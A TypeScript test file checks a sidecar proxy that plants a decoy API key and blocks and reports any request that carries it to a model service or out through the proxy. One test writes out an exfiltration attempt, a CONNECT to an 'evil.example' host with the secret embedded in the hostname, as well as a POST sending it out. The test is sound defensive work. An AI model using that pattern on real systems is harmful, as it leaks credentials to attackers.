import { describe, expect, it } from 'vitest'
import { call, config, credential, server, sidecar, text, vendor } from './support.ts'

const value = 'sk_live_aB3dE5gH7jK9mN1pQ3sT5vX7z'
const decoys = [{ id: 'decoy', value }]

async function scene() {
  const model = await vendor()
  const it = await sidecar(config([credential('ANTHROPIC', 'sk-real')], { ANTHROPIC: model.url }, { decoys }))
  const ask = (change: { headers?: Record<string, string>; body?: string; query?: string } = {}) =>
    call(`${it.url}/v1/messages${change.query ?? ''}`, {
      headers: { 'x-api-key': 'dummy-ada', ...change.headers },
      body: change.body ?? '{}',
    })
  const found = () => it.reports.filter(({ type }) => type === 'decoy_sent')
  return { ...it, model, ask, found }
}

describe('a decoy', () => {
  it('that nobody sends changes nothing', async () => {
    const it = await scene()
    expect((await it.ask({ body: '{"model":"x"}' })).status).toBe(200)
    expect(it.model.seen[0]!.body).toBe('{"model":"x"}')
    expect(it.found()).toEqual([])
  })

  it.each([
    ['as the key', { headers: { 'x-api-key': value } }],
    ['in a header', { headers: { 'x-note': `Basic ${Buffer.from(`me:${value}`).toString('base64')}` } }],
    ['in an address', { query: `?note=${value}` }],
    ['in a body', { body: JSON.stringify({ messages: [`the key is ${value}`] }) }],
  ])('is refused and told %s, and reaches no model', async (_, change) => {
    const it = await scene()
    const answer = await it.ask(change)
    expect(answer.status).toBe(403)
    expect(answer.body).not.toContain(value)
    expect(it.model.seen.filter(({ body, url }) => `${url}${body}`.includes(value))).toEqual([])
    expect(it.found()).toMatchObject([{ tripwireId: 'decoy', host: 'a model service' }])
  })

  it('is refused on its way out by the proxy: in a body, and in the name of a tunnel', async () => {
    const got: string[] = []
    const outside = await server(async (request, response) => {
      got.push(await text(request).catch(() => ''))
      response.end('ok')
    })
    const it = await sidecar(
      config([], {}, { decoys, network: { mode: 'free', allowedDomains: [], allowPrivateEndpoints: true } }),
      { isolated: false },
    )
    const { request } = await import('node:http')
    const through = (method: string, path: string, body = '') =>
      new Promise<number>((resolve) => {
        const out = request({ host: '127.0.0.1', port: it.port, method, path }, (answer) => {
          answer.resume()
          resolve(answer.statusCode!)
        })
        out.on('connect', (answer, socket) => {
          socket.destroy()
          resolve(answer.statusCode!)
        })
        out.on('error', () => resolve(0))
        out.end(body)
      })
    expect(await through('CONNECT', `${value}.evil.example:443`)).toBe(403)
    await through('POST', `http://127.0.0.1:${outside.port}/`, `k=${value}`)
    expect(got.join('')).not.toContain(value)
    expect(it.reports.filter(({ type }) => type === 'decoy_sent').length).toBeGreaterThan(0)
  })
})
